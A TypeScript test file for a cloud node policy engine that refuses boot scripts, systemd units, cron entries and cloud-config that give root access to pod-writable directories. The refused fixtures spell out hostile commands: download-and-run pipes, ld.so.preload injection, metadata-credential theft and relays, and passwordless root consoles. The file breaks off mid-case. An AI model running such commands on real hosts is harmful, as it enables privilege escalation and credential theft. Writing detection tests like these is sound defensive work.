/**
 * Data directories pods may write as an allowlist in what a node's root processes read (policy-pack/engine/rootReads.ts):
 * every way a root script, a written file or a unit names /data, /srv or /mnt is refused unless it reads nothing there.
 */
import * as assert from "assert";
import {
    gitUnverifiedFetch,
    imagePullTlsOff,
    packageCheckOffSwitches,
    printfOutput,
    rootReadOpenings,
    unverifiedRepositoryFiles,
    unverifiedSigningKeys,
} from "../../../policy-pack/engine/rootReads";
import { userDataOpenings } from "../../../policy-pack/engine/userData";

const script = (...lines: string[]) => rootReadOpenings([{ text: lines.join("\n") }]).map(o => o.what);
const file = (path: string, ...lines: string[]) =>
    rootReadOpenings([{ text: lines.join("\n"), file: path }]).map(o => o.what);
const cloudConfig = (...lines: string[]) =>
    userDataOpenings([{ text: ["#cloud-config", ...lines].join("\n"), base64: false }]).map(o => o.what);

const refused: { name: string; reads: () => string[]; path: RegExp }[] = [
    {
        name: "a relative program after cd",
        reads: () => script("cd /data/jobs && ./rotate.sh"),
        path: /\/data\/jobs\/rotate\.sh/,
    },
    {
        name: "a relative script of an interpreter after cd, on a later line",
        reads: () => script("cd /srv/tools", "python3 collect.py"),
        path: /\/srv\/tools\/collect\.py/,
    },
    {
        name: "a relative script from the root directory (cloud-init's working directory is /)",
        reads: () => script("bash data/boot.sh"),
        path: /\/data\/boot\.sh/,
    },
    {
        name: "a program through a variable",
        reads: () => script("D=/data/tools", "$D/run.sh"),
        path: /\/data\/tools\/run\.sh/,
    },
    {
        name: "PATH extended with a data directory",
        reads: () => script("export PATH=/data/bin:$PATH", "setup"),
        path: /\/data\/bin.*PATH/,
    },
    {
        name: "LD_PRELOAD of a library under /data before a system program",
        reads: () => script("LD_PRELOAD=/data/lib/x.so /usr/bin/true"),
        path: /\/data\/lib\/x\.so/,
    },
    { name: "a sourced file", reads: () => script(". /data/env.sh"), path: /\/data\/env\.sh/ },
    {
        name: "a script read on standard input",
        reads: () => script("/bin/bash < /data/boot/hook.sh"),
        path: /hook\.sh/,
    },
    {
        name: "a here-document writing a data-directory library into /etc/ld.so.preload",
        reads: () =>
            script("cat <<'EOF' > /etc/ld.so.preload", "/usr/lib64/libjemalloc.so.2", "/data/lib/hook.so", "EOF"),
        path: /\/data\/lib\/hook\.so.*\/etc\/ld\.so\.preload/,
    },
    {
        name: "echo piped to tee -a /etc/ld.so.preload",
        reads: () => script("echo /data/lib/hook.so | tee -a /etc/ld.so.preload"),
        path: /\/etc\/ld\.so\.preload/,
    },
    {
        name: "a here-string into tee of a loader path file",
        reads: () => script("tee /etc/ld.so.conf.d/data.conf <<< /data/lib"),
        path: /\/etc\/ld\.so\.conf\.d\/data\.conf/,
    },
    {
        name: "installing a program from /data into /usr/local/bin",
        reads: () => script("install -m 0755 /data/bin/agent /usr/local/bin/agent"),
        path: /install reads it into \/usr\/local\/bin\/agent/,
    },
    {
        name: "extracting an archive from /data into /usr/local",
        reads: () => script("tar -xzf /data/x.tgz -C /usr/local"),
        path: /x\.tgz/,
    },
    {
        name: "a bind of a data directory over system binaries",
        reads: () => script("mount --bind /data/bin /usr/local/bin"),
        path: /\/data\/bin/,
    },
    {
        name: "a core_pattern helper set with sysctl -w",
        reads: () => script("sysctl -w kernel.core_pattern='|/data/bin/dump %p'"),
        path: /\/data\/bin\/dump/,
    },
    {
        name: "find -exec over a data directory",
        reads: () => script("find /data/hooks -name '*.sh' -exec {} \\;"),
        path: /\/data\/hooks/,
    },
    {
        name: "a loop running every hook",
        reads: () => script('for f in /data/hooks/*; do "$f"; done'),
        path: /\/data\/hooks/,
    },
    { name: "bash -c with cd", reads: () => script("bash -c 'cd /data && ./x'"), path: /\/data\/x/ },
    {
        name: "dd reading an image from /data",
        reads: () => script("dd if=/data/img of=/dev/nvme2n1 bs=1M"),
        path: /\/data\/img/,
    },
    {
        name: "echo into the kernel's modprobe helper",
        reads: () => script("echo /data/modprobe > /proc/sys/kernel/modprobe"),
        path: /\/proc\/sys\/kernel\/modprobe/,
    },
    {
        name: "a root unit's WorkingDirectory",
        reads: () =>
            file(
                "/etc/systemd/system/x.service",
                "[Service]",
                "WorkingDirectory=/data/tools",
                "ExecStart=/usr/bin/python3 collect.py",
            ),
        path: /WorkingDirectory=\/data\/tools/,
    },
    {
        name: "a root unit's EnvironmentFile",
        reads: () =>
            file("/etc/systemd/system/x.service", "[Service]", "EnvironmentFile=/data/env", "ExecStart=/usr/bin/agent"),
        path: /EnvironmentFile/,
    },
    {
        name: "a non-root unit whose ExecStartPre runs as root (+)",
        reads: () =>
            file(
                "/etc/systemd/system/x.service",
                "[Service]",
                "User=app",
                "ExecStartPre=+/data/bin/prepare",
                "ExecStart=/usr/bin/app",
            ),
        path: /\/data\/bin\/prepare/,
    },
    {
        name: "a drop-in with no User= (the unit it extends is not shown)",
        reads: () =>
            file("/etc/systemd/system/agent.service.d/10-data.conf", "[Service]", "ExecStartPost=/srv/hooks/post"),
        path: /\/srv\/hooks\/post/,
    },
    {
        name: "cron's PATH",
        reads: () => file("/etc/cron.d/jobs", "PATH=/data/bin:/usr/bin", "0 * * * * root job"),
        path: /PATH=\/data\/bin/,
    },
    {
        name: "a root spool crontab running a relative program after cd",
        reads: () => file("/var/spool/cron/root", "*/5 * * * * cd /data/jobs && ./rotate.sh"),
        path: /\/data\/jobs\/rotate\.sh.*root cron job/,
    },
    {
        name: "a tmpfiles L line linking the CNI directory into /data",
        reads: () => file("/etc/tmpfiles.d/cni.conf", "L+ /opt/cni/bin - - - - /data/cni/bin"),
        path: /\/data\/cni\/bin/,
    },
    {
        name: "a tmpfiles C line copying a data file into /etc",
        reads: () => file("/etc/tmpfiles.d/x.conf", "C /etc/sudoers.d/x - - - - /data/sudoers"),
        path: /\/data\/sudoers/,
    },
    {
        name: "a loop-mounted image from /data in fstab",
        reads: () => file("/etc/fstab", "/data/opt.img /opt auto loop 0 0"),
        path: /opt\.img/,
    },
    {
        name: "a logrotate include of a data directory",
        reads: () => file("/etc/logrotate.d/app", "include /data/logrotate.d"),
        path: /include \/data\/logrotate\.d/,
    },
    {
        name: "a logrotate postrotate running a data-directory script",
        reads: () =>
            file(
                "/etc/logrotate.d/app",
                "/data/app/*.log {",
                "  postrotate",
                "    /data/app/reopen.sh",
                "  endscript",
                "}",
            ),
        path: /\/data\/app\/reopen\.sh/,
    },
    {
        name: "/etc/environment setting PATH",
        reads: () => file("/etc/environment", "PATH=/data/bin:/usr/bin"),
        path: /\/etc\/environment/,
    },
    {
        name: "a PAM hook",
        reads: () => file("/etc/pam.d/crond", "session optional pam_exec.so /data/hooks/session.sh"),
        path: /pam_exec/,
    },
    {
        name: "a cloud-config runcmd list entry running sh -c with cd",
        reads: () => cloudConfig("runcmd:", "  - [sh, -c, 'cd /data/tools && ./setup']"),
        path: /\/data\/tools\/setup/,
    },
    {
        name: "a cloud-config swap file under /data",
        reads: () => cloudConfig("swap:", "  filename: /data/swap.img", "  size: 1G"),
        path: /swap\.filename/,
    },
    {
        name: "a cloud-config yum repository served from /data",
        reads: () => cloudConfig("yum_repos:", "  local:", "    baseurl: file:///data/repo", "    enabled: true"),
        path: /yum_repos/,
    },
    { name: "a glob naming /data", reads: () => script("/d?ta/hooks/run.sh"), path: /\/d\?ta\/hooks/ },
    { name: "env -C into a data directory", reads: () => script("env -C /data/tools ./setup"), path: /\/data\/tools/ },
    {
        name: "a default value naming /data",
        reads: () => script('"${HOOK:-/data/hooks/boot}"'),
        path: /\/data\/hooks\/boot/,
    },
    {
        name: "find output piped to xargs sh",
        reads: () => script("find /data/hooks -type f | xargs -n1 sh"),
        path: /\/data\/hooks/,
    },
    {
        name: "a while-read loop over a listing of /data running each line",
        reads: () => script('while read -r f; do "$f"; done < <(ls /data/hooks)'),
        path: /chosen at run time/,
    },
    {
        name: "curl copying a file:// URL from /data into /usr/local/bin",
        reads: () => script("curl -fsSL file:///data/bin/agent -o /usr/local/bin/agent"),
        path: /\/data\/bin\/agent/,
    },
    {
        name: "a script piped from cat of a data file into bash",
        reads: () => script("cat /data/boot.sh | bash"),
        path: /\/data\/boot\.sh/,
    },
];

const accepted: { name: string; reads: () => string[] }[] = [
    {
        name: "formatting and mounting a local disk at /data, owned by the app",
        reads: () =>
            script(
                "mkfs.xfs -f -L data /dev/nvme1n1",
                "mkdir -p /data",
                "mount /dev/nvme1n1 /data",
                "echo 'LABEL=data /data xfs defaults,nofail 0 2' >> /etc/fstab",
                "chown -R 10001:10001 /data && chmod 0750 /data",
            ),
    },
    {
        name: "a here-document written inside /data",
        reads: () => script("cat <<EOF > /data/app/config.yaml", "dataDir: /data/app", "EOF"),
    },
    {
        name: "downloads into /data (aws s3 cp, curl -o, wget -P, tar -C, unzip -d, git clone)",
        reads: () =>
            script(
                "aws s3 cp s3://models/current.bin /data/models/current.bin",
                "curl -fsSL -o /data/tools/tool.tgz https://example.com/tool.tgz",
                "wget -q -P /data/dl https://example.com/x",
                "tar -xzf /tmp/x.tgz -C /data/x",
                "unzip -q /tmp/x.zip -d /data/y",
                "git clone https://github.com/example/repo /data/repo",
            ),
    },
    { name: "a copy of a node file into /data", reads: () => script("cp /etc/hostname /data/meta/") },
    { name: "progress messages to the log", reads: () => script('echo "mounting /data"', 'printf "%s ready\\n" /srv') },
    { name: "a command's output saved to /data", reads: () => script("sysctl --system | tee /data/sysctl.log") },
    {
        name: "a variable naming the data directory, used by mkdir",
        reads: () => script("export DATA_DIR=/data", 'mkdir -p "$DATA_DIR/app"'),
    },
    { name: "a bucket called data", reads: () => script("aws s3 cp s3://data/agent /usr/local/bin/agent") },
    { name: "cd into /data for inert commands", reads: () => script("cd /data && mkdir -p logs && chown 1000 logs") },
    { name: "a test before chown", reads: () => script("if [ -d /data ]; then chown 1000 /data; fi") },
    {
        name: "a link inside /data to a system program",
        reads: () => script("ln -s /usr/bin/python3 /data/bin/python3"),
    },
    { name: "find -delete of old files", reads: () => script("find /data/tmp -type f -mtime +7 -delete") },
    {
        name: "a mount unit and a root unit growing the filesystem",
        reads: () => [
            ...file(
                "/etc/systemd/system/data.mount",
                "[Mount]",
                "What=/dev/nvme1n1",
                "Where=/data",
                "Type=xfs",
                "[Install]",
                "WantedBy=local-fs.target",
            ),
            ...file(
                "/etc/systemd/system/grow-data.service",
                "[Unit]",
                "Description=Grow /data",
                "RequiresMountsFor=/data",
                "ConditionPathIsMountPoint=/data",
                "[Service]",
                "Type=oneshot",
                "ExecStart=/usr/sbin/xfs_growfs /data",
            ),
        ],
    },
    {
        // Round 34: off the node's network (PrivateNetwork=); on it, python3 -m would import the pod's module from the
        // working directory and reach instance metadata (DECIDED in round34 neighbours below).
        name: "a non-root unit with NoNewPrivileges and PrivateNetwork working in /data",
        reads: () =>
            file(
                "/etc/systemd/system/exporter.service",
                "[Service]",
                "User=nobody",
                "NoNewPrivileges=yes",
                "PrivateNetwork=yes",
                "WorkingDirectory=/data/www",
                "ExecStart=/usr/bin/python3 -m http.server",
            ),
    },
    {
        // Round 29: a non-root user's cron job running a program in /data is refused (DECIDED: cron sets no
        // NoNewPrivileges, so a setuid file a uid-0 pod plants gives the job root's power back; round29 below).
        name: "cron jobs of a non-root user running node programs, and root's find -delete",
        reads: () =>
            file(
                "/etc/cron.d/cleanup",
                "0 * * * * appuser /usr/local/bin/compact --dir /data/app",
                "30 2 * * * root /usr/bin/find /data/tmp -mtime +7 -delete",
            ),
    },
    {
        name: "tmpfiles entries inside /data",
        reads: () =>
            file("/etc/tmpfiles.d/data.conf", "d /data/tmp 1777 root root 10d", "L /data/bin/sh - - - - /usr/bin/sh"),
    },
    { name: "auditd watches", reads: () => file("/etc/audit/rules.d/60-data.rules", "-w /data/ -p wa -k data") },
    {
        name: "logrotate of logs in /data",
        reads: () => file("/etc/logrotate.d/app", "/data/app/logs/*.log {", "  su appuser appuser", "  daily", "}"),
    },
    {
        name: "a file written inside /srv",
        reads: () => file("/srv/app/run.sh", "#!/bin/sh", "exec /srv/app/bin/server"),
    },
    {
        name: "cloud-config mounts of a disk at /data",
        reads: () => cloudConfig("mounts:", "  - [/dev/nvme1n1, /data, xfs, 'defaults,nofail', '0', '2']"),
    },
    {
        name: "iptables under flock of the xtables lock",
        reads: () => script("flock /run/xtables.lock iptables -A INPUT -j ACCEPT"),
    },
    {
        name: "a loop over NVMe devices formatting them, then a mount at /data",
        reads: () =>
            script(
                'for dev in /dev/nvme[1-9]n1; do mkfs.xfs -f "$dev"; done',
                "mdadm --create /dev/md0 --level=0 --raid-devices=2 /dev/nvme1n1 /dev/nvme2n1",
                "mount /dev/md0 /data",
            ),
    },
];

describe("root reads: data directories pods may write are an allowlist in root-read text (engine/rootReads.ts)", () => {
    for (const c of refused)
        it(`refuses: ${c.name}`, () => {
            const what = c.reads();
            assert.ok(
                what.some(w => c.path.test(w) && /a node directory the pack lets pods write|cannot be read/.test(w)),
                `expected a refusal matching ${c.path}, got ${JSON.stringify(what, null, 1)}`,
            );
        });
    for (const c of accepted) it(`accepts: ${c.name}`, () => assert.deepStrictEqual(c.reads(), []));
});

// Work is bounded: a hostile script must not stall `pulumi preview` (counted, not timed: see `npm run bench`).
describe("root reads: bounded work on hostile scripts (engine/rootReads.ts)", () => {
    it("a brace bomb is read as a glob past 256 words and still refuses the data directory it hides", () => {
        const group = `{${Array.from({ length: 60 }, (_, i) => `a${i}`).join(",")}}`;
        const what = script(`bash /${group}/${group}/${group}/${group}/{x,data}/boot.sh`);
        assert.ok(
            what.some(w => /cannot be read|a node directory the pack lets pods write/.test(w)),
            JSON.stringify(what),
        );
    });
    it("the data directory inside a brace group past the bound is still refused", () => {
        const alts = [...Array.from({ length: 300 }, (_, i) => `a${i}`), "data"].join(",");
        const what = script(`bash /{${alts}}/boot.sh`);
        assert.ok(
            what.some(w => /cannot be read|a node directory the pack lets pods write/.test(w)),
            JSON.stringify(what),
        );
    });
    it("functions fanning out without bound are refused as unreadable, not followed forever", () => {
        const lines = ["f0() { true; }"];
        for (let i = 1; i < 6; i++)
            lines.push(
                `f${i}() { ${Array(40)
                    .fill(`f${i - 1}`)
                    .join("; ")}; }`,
            );
        lines.push("f5");
        const what = script(...lines);
        assert.ok(
            what.some(w => /more than 200000 commands/.test(w)),
            JSON.stringify(what),
        );
    });
});

// Round 25: what root writes and runs, judged by what the node makes of it (userData.ts nodeJudge), and the readers'
// neighbours of round 25's red-team cases (redteam25-node/nsec.test.ts), both directions.
const shell = (...lines: string[]) =>
    userDataOpenings([{ text: ["#!/bin/bash", ...lines].join("\n"), base64: false }]).map(o => o.what);

/** A neighbour case: what the readers report, and the refusal expected (none: accepted). */
interface ReadCase {
    name: string;
    reads: () => string[];
    refused?: RegExp;
}

function describeReads(title: string, cases: readonly ReadCase[]) {
    describe(title, () => {
        for (const c of cases)
            if (c.refused)
                it(`refuses: ${c.name}`, () => {
                    const what = c.reads();
                    assert.ok(
                        what.some(w => c.refused!.test(w)),
                        `expected a refusal matching ${c.refused}, got ${JSON.stringify(what, null, 1)}`,
                    );
                });
            else it(`accepts: ${c.name}`, () => assert.deepStrictEqual(c.reads(), []));
    });
}

const round25: ReadCase[] = [
    // Refused.
    {
        name: "echo -e with a hex escape for / into /etc/ld.so.preload",
        reads: () => script("echo -e '\\x2fdata/lib/x.so' > /etc/ld.so.preload"),
        refused: /\/data\/lib\/x\.so/,
    },
    {
        name: "wget's output piped to sh -s -- (a script fetched at boot)",
        reads: () => script("wget -qO- https://example.com/setup.sh | sh -s -- --channel stable"),
        refused: /made at boot/,
    },
    {
        name: 'bash -c "$(curl -fsSL URL)"',
        reads: () => script('bash -c "$(curl -fsSL https://example.com/setup.sh)"'),
        refused: /made at boot/,
    },
    {
        name: "a download piped to install /dev/stdin /etc/ld.so.preload",
        reads: () => shell("curl -fsSL https://example.com/preload | install -m 0644 /dev/stdin /etc/ld.so.preload"),
        refused: /ld\.so\.preload with content the pack cannot read/,
    },
    {
        name: "a unit file downloaded from S3 into /etc/systemd/system",
        reads: () => shell("aws s3 cp s3://acme-node/units/agent.service /etc/systemd/system/agent.service"),
        refused: /agent\.service with content the pack cannot read/,
    },
    {
        name: "a download into /tmp later copied into a sudoers drop-in",
        reads: () =>
            shell("curl -fsSL -o /tmp/ops https://example.com/ops", "install -m 0440 /tmp/ops /etc/sudoers.d/ops"),
        refused: /sudoers\.d\/ops with content the pack cannot read/,
    },
    {
        name: "sed adding a data-directory library line to /etc/ld.so.preload",
        reads: () => script("sed -i '$a /data/lib/hook.so' /etc/ld.so.preload"),
        refused: /\/data\/lib\/hook\.so/,
    },
    {
        name: "sed's r command reading a pod's file into /etc/fstab",
        reads: () => script("sed -i '$r /data/extra-mounts' /etc/fstab"),
        refused: /\/data\/extra-mounts/,
    },
    {
        name: "sed -f with a script file under /data",
        reads: () => script("sed -i -f /data/edits.sed /etc/fstab"),
        refused: /\/data\/edits\.sed/,
    },
    {
        name: "sed turning sshd password logins on",
        reads: () => shell("sed -i 's/^PasswordAuthentication no/PasswordAuthentication yes/' /etc/ssh/sshd_config"),
        refused: /PasswordAuthentication/,
    },
    {
        name: "jq --rawfile reading a pod's file",
        reads: () => script("jq -n --rawfile ca /data/ca.pem '{ca: $ca}' > /etc/app/config.json"),
        refused: /\/data\/ca\.pem/,
    },
    {
        name: "jq reading a pod's JSON as input",
        reads: () => script("jq '.registry' /data/validator/settings.json > /etc/app/registry.json"),
        refused: /\/data\/validator\/settings\.json/,
    },
    {
        name: "useradd copying a skeleton from /data",
        reads: () => script("useradd -m -k /data/skel operator"),
        refused: /\/data\/skel/,
    },
    {
        name: "cp -a from one data directory into another (a pod's symlink redirects the write)",
        reads: () => script("cp -a /data/incoming/. /data/app/"),
        refused: /\/data\/incoming/,
    },
    {
        name: "a unit whose User= is an instance specifier (%i)",
        reads: () => file("/etc/systemd/system/agent@.service", "[Service]", "User=%i", "ExecStart=/data/bin/agent"),
        refused: /\/data\/bin\/agent/,
    },
    {
        name: "a prefix drop-in (data-.service.d) running a data-directory program before every data-* service",
        reads: () =>
            file("/etc/systemd/system/data-.service.d/10-pre.conf", "[Service]", "ExecStartPre=/data/hooks/pre"),
        refused: /\/data\/hooks\/pre/,
    },
    {
        name: "usermod -p setting a password hash",
        reads: () => shell("usermod -p '$6$salt$hash' ec2-user"),
        refused: /login password/,
    },
    {
        name: "iptables DNAT of a node port to instance metadata",
        reads: () =>
            shell("iptables -t nat -A PREROUTING -p tcp --dport 8181 -j DNAT --to-destination 169.254.169.254:80"),
        refused: /instance metadata/,
    },
    {
        name: "an nginx site proxying to instance metadata",
        reads: () =>
            shell(
                "cat > /etc/nginx/conf.d/imds.conf <<'EOF'",
                "server { listen 8181; location / { proxy_pass http://169.254.169.254; } }",
                "EOF",
            ),
        refused: /instance metadata/,
    },
    {
        name: "a non-root unit relaying instance metadata (User= does not change the node's network)",
        reads: () =>
            shell(
                "cat > /etc/systemd/system/relay.service <<'EOF'",
                "[Service]",
                "User=nobody",
                "ExecStart=/usr/bin/socat TCP-LISTEN:8181,fork TCP:[fd00:ec2::254]:80",
                "EOF",
            ),
        refused: /instance metadata/,
    },
    {
        name: "KUBELET_EXTRA_ARGS with --read-only-port=10255",
        reads: () => shell("echo 'KUBELET_EXTRA_ARGS=--read-only-port=10255' >> /etc/sysconfig/kubelet"),
        refused: /read-only port/,
    },
    {
        name: "a kubelet drop-in setting Environment (not only ordering)",
        reads: () =>
            cloudConfig(
                "write_files:",
                "  - path: /etc/systemd/system/kubelet.service.d/20-args.conf",
                "    content: |",
                "      [Unit]",
                "      After=data.mount",
                "      [Service]",
                "      Environment=KUBELET_EXTRA_ARGS=--node-labels=x=y",
            ),
        refused: /kubelet\.service\.d\/20-args\.conf/,
    },
    // Accepted.
    {
        name: "a tool downloaded into /usr/local/bin",
        reads: () => shell("curl -fsSL -o /usr/local/bin/yq https://example.com/yq", "chmod +x /usr/local/bin/yq"),
    },
    {
        name: "the script reading its instance id from metadata (IMDSv2)",
        reads: () =>
            shell(
                'TOKEN=$(curl -sX PUT http://169.254.169.254/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 60")',
                'ID=$(curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/instance-id)',
                "export AWS_EC2_METADATA_SERVICE_ENDPOINT=http://169.254.169.254",
            ),
    },
    {
        name: "a unit written to /tmp by a here-document, then installed into /etc/systemd/system",
        reads: () =>
            shell(
                "cat > /tmp/tuning.service <<'EOF'",
                "[Service]",
                "Type=oneshot",
                "ExecStart=/usr/sbin/sysctl -w vm.max_map_count=262144",
                "EOF",
                "install -m 0644 /tmp/tuning.service /etc/systemd/system/",
            ),
    },
    {
        name: "the AMI's own unit copied into /etc/systemd/system",
        reads: () => shell("cp /usr/lib/systemd/system/chronyd.service /etc/systemd/system/chronyd.service"),
    },
    {
        name: "CIS sshd hardening with sed",
        reads: () =>
            shell(
                "sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin no/' /etc/ssh/sshd_config",
                "sed -i 's/^#\\?PasswordAuthentication.*/PasswordAuthentication no/' /etc/ssh/sshd_config",
            ),
    },
    { name: "passwd -l root (locking, CIS)", reads: () => shell("passwd -l root") },
    {
        name: "sed -i editing a pod's own config in place (the file is replaced, not followed)",
        reads: () => script("sed -i 's/^threads = .*/threads = 8/' /data/validator/config.toml"),
    },
    {
        name: "jq generating a pod's config inside /data from --arg values",
        reads: () => script("jq -n --arg dir /data/validator/db '{db: $dir}' > /data/validator/config.json"),
    },
    {
        name: "a download into /data (a pod's input, judged where it is read)",
        reads: () => script("curl -fsSL -o /data/validator/genesis.json https://example.com/genesis.json"),
    },
];

describeReads(
    "root reads: round 25 writes, commands and their neighbours (engine/rootReads.ts, userData.ts nodeJudge)",
    round25,
);

// Round 26: neighbours of redteam26-node/nsec.test.ts (instance-metadata spellings, systemd specifiers, consoles,
// cloud-config modules that run commands, kubelet flag entries, containerd's TCP listener, the cluster CA).
const nodeConfig = (...spec: string[]) =>
    userDataOpenings([
        {
            text: [
                "MIME-Version: 1.0",
                'Content-Type: multipart/mixed; boundary="B"',
                "",
                "--B",
                "Content-Type: application/node.eks.aws",
                "",
                "apiVersion: node.eks.aws/v1alpha1",
                "kind: NodeConfig",
                "spec:",
                "  cluster:",
                "    name: dev",
                ...spec,
                "--B--",
            ].join("\n"),
            base64: false,
        },
    ]).map(o => o.what);
const pem = (n: number) =>
    Buffer.from(
        Array.from({ length: n }, (_, i) => `-----BEGIN CERTIFICATE-----\nMIICA${i}\n-----END CERTIFICATE-----`).join(
            "\n",
        ),
    ).toString("base64");

const round26: ReadCase[] = [
    ...[
        "0xa9fea9fe",
        "0251.0376.0251.0376",
        "169.254.43518",
        "169.16689662",
        "[::ffff:a9fe:a9fe]",
        "[fd00:0ec2:0:0:0:0:0:254]",
    ].map(address => ({
        name: `a relay to instance metadata spelled ${address}`,
        reads: () => shell(`socat TCP-LISTEN:8181,fork TCP:${address}:80 &`),
        refused: /instance metadata/,
    })),
    {
        name: "a root unit running %S/../../data/hook (specifiers resolved before the path)",
        reads: () => file("/etc/systemd/system/hook.service", "[Service]", "ExecStart=%S/../../data/hook"),
        refused: /\/data\/hook/,
    },
    {
        name: "getty -a root on the serial console",
        reads: () => shell("/sbin/agetty -a root ttyS0 115200 &"),
        refused: /without a password/,
    },
    {
        name: "power_state's condition as a list running sh -c with a download",
        reads: () =>
            cloudConfig(
                "power_state:",
                "  mode: reboot",
                "  condition: [sh, -c, 'curl -fsSL https://example.com/x | bash']",
            ),
        refused: /made at boot/,
    },
    {
        name: "snap commands piping a download into sh",
        reads: () => cloudConfig("snap:", "  commands:", "    00: curl -fsSL https://example.com/x | sh"),
        refused: /made at boot/,
    },
    {
        name: "a kubelet.flags entry hiding --anonymous-auth=true",
        reads: () => nodeConfig("  kubelet:", "    flags:", '      - "--max-pods=58 --anonymous-auth=true"'),
        refused: /anonymous-auth/,
    },
    {
        name: "containerd's API on TCP without client certificates",
        reads: () =>
            nodeConfig("  containerd:", "    config: |", "      [grpc]", '      tcp_address = "10.0.0.5:10010"'),
        refused: /tcp_address/,
    },
    {
        name: "a cluster CA bundle of three certificates",
        reads: () => nodeConfig(`    certificateAuthority: ${pem(3)}`),
        refused: /bundle of several CAs/,
    },
    // Accepted.
    {
        name: "chrony pointed at the Amazon Time Sync Service (169.254.169.123, not metadata)",
        reads: () => shell("echo 'server 169.254.169.123 prefer iburst' >> /etc/chrony.conf"),
    },
    {
        name: "jq reading cloud-init's instance-data.json",
        reads: () => shell("REGION=$(jq -r .v1.region /run/cloud-init/instance-data.json)"),
    },
    { name: "agetty without autologin", reads: () => shell("/sbin/agetty --keep-baud 115200 ttyS0 vt220 &") },
    {
        name: "containerd's API on TCP with client certificates (tcp_tls_ca)",
        reads: () =>
            nodeConfig(
                "  containerd:",
                "    config: |",
                "      [grpc]",
                '      tcp_address = "10.0.0.5:10010"',
                '      tcp_tls_ca = "/etc/containerd/ca.pem"',
                '      tcp_tls_cert = "/etc/containerd/cert.pem"',
                '      tcp_tls_key = "/etc/containerd/key.pem"',
            ),
    },
    { name: "the cluster's own CA (one certificate)", reads: () => nodeConfig(`    certificateAuthority: ${pem(1)}`) },
    {
        name: "two kubelet flags in one entry, both harmless",
        reads: () => nodeConfig("  kubelet:", "    flags:", '      - "--max-pods=58 --node-labels=tier=validators"'),
    },
];

describeReads("root reads: round 26 neighbours (engine/rootReads.ts, userData.ts)", round26);

// Round 27: neighbours of redteam27-node/nsec.test.ts (node directories bound into data directories, credentials
// printed into them, TTL changes, boot arguments, sudoers and AWS CLI configuration).
const bottlerocket = (...toml: string[]) =>
    userDataOpenings([{ text: toml.join("\n"), base64: false }]).map(o => o.what);

const round27: ReadCase[] = [
    {
        name: "mount --rbind /usr at /data/usr",
        reads: () => script("mount --rbind /usr /data/usr"),
        refused: /binds \/usr at \/data\/usr/,
    },
    {
        name: "an fstab bind of /usr/local/bin at /srv/tools",
        reads: () => file("/etc/fstab", "/usr/local/bin /srv/tools none bind 0 0"),
        refused: /binds \/usr\/local\/bin/,
    },
    {
        name: "an ECR login token written into /data",
        reads: () => shell("aws ecr get-login-password --region eu-west-1 > /data/registry/token"),
        refused: /ecr get-login-password/,
    },
    {
        name: "the node role's credentials from metadata teed into /srv",
        reads: () =>
            shell(
                'curl -s -H "X-aws-ec2-metadata-token: $T" http://169.254.169.254/latest/meta-data/iam/security-credentials/node | tee /srv/creds.json',
            ),
        refused: /node role's credentials/,
    },
    {
        name: "ip6tables HL --hl-set on forwarded packets",
        reads: () => shell("ip6tables -t mangle -A FORWARD -j HL --hl-set 64"),
        refused: /hop limit/,
    },
    {
        name: "GRUB_CMDLINE_LINUX with init=/bin/bash written to /etc/default/grub",
        reads: () => shell("echo 'GRUB_CMDLINE_LINUX=\"console=ttyS0 init=/bin/bash\"' >> /etc/default/grub"),
        refused: /init=\/bin\/bash/,
    },
    {
        name: "Bottlerocket boot kernel-parameters with systemd.debug_shell",
        reads: () =>
            bottlerocket(
                "[settings.boot.kernel-parameters]",
                '"systemd.debug_shell" = ["ttyS0"]',
                "[settings.boot]",
                "reboot-to-reconcile = true",
            ),
        refused: /systemd\.debug_shell=ttyS0/,
    },
    {
        name: "a sudoers drop-in with Defaults !authenticate (loosening)",
        reads: () => shell("echo 'Defaults !authenticate' > /etc/sudoers.d/10-nopass"),
        refused: /sudoers\.d\/10-nopass/,
    },
    {
        name: "root's AWS config with credential_process",
        reads: () =>
            shell(
                "mkdir -p /root/.aws",
                "printf '[default]\\ncredential_process = /usr/local/bin/creds\\n' > /root/.aws/config",
            ),
        refused: /\/root\/\.aws\/config/,
    },
    {
        name: "a kubelet drop-in setting a proxy and KUBELET_EXTRA_ARGS on one Environment line",
        reads: () =>
            cloudConfig(
                "write_files:",
                "  - path: /etc/systemd/system/kubelet.service.d/http-proxy.conf",
                "    content: |",
                "      [Service]",
                '      Environment="HTTPS_PROXY=http://proxy:3128" "KUBELET_EXTRA_ARGS=--anonymous-auth=true"',
            ),
        refused: /kubelet\.service\.d\/http-proxy\.conf/,
    },
    // Accepted.
    {
        name: "a read-only bind of /var/log into /data",
        reads: () => script("mount -o bind,ro /var/log /data/node-logs"),
    },
    { name: "mount --bind -r of /etc/pki into /srv", reads: () => script("mount --bind -r /etc/pki /srv/pki") },
    {
        name: "the caller identity saved into /data",
        reads: () => shell("aws sts get-caller-identity > /data/identity.json"),
    },
    {
        name: "CIS kernel arguments in /etc/default/grub",
        reads: () => shell("echo 'GRUB_CMDLINE_LINUX=\"audit=1 audit_backlog_limit=8192\"' >> /etc/default/grub"),
    },
    {
        name: "a sudoers drop-in of CIS Defaults",
        reads: () =>
            shell("printf 'Defaults use_pty\\nDefaults logfile=\"/var/log/sudo.log\"\\n' > /etc/sudoers.d/01-cis"),
    },
];

describeReads("root reads: round 27 neighbours (engine/rootReads.ts, userData.ts)", round27);

// Round 28: neighbours of redteam28-node.test.ts (remote management as commands, forward proxies, the CloudWatch
// agent's sources and files).
const cwAgent = (paths: string[]) =>
    shell(
        "cat > /opt/aws/amazon-cloudwatch-agent/etc/node.json <<'EOF'",
        JSON.stringify({
            logs: {
                logs_collected: {
                    files: { collect_list: paths.map(file_path => ({ file_path, log_group_name: "/eks/node" })) },
                },
            },
        }),
        "EOF",
    );

const round28: ReadCase[] = [
    {
        name: "systemctl enable --now salt-minion",
        reads: () => shell("systemctl enable --now salt-minion.service"),
        refused: /Salt|salt-minion/,
    },
    {
        name: "chef-client against a server",
        reads: () => shell("chef-client -S https://chef.example.com -r 'role[node]'"),
        refused: /Chef server/,
    },
    {
        name: "tailscale set --ssh",
        reads: () => shell("tailscale up --ssh=true --auth-key=$KEY"),
        refused: /Tailscale SSH/,
    },
    {
        name: "the CloudWatch agent shipping the kubelet's directory by a glob",
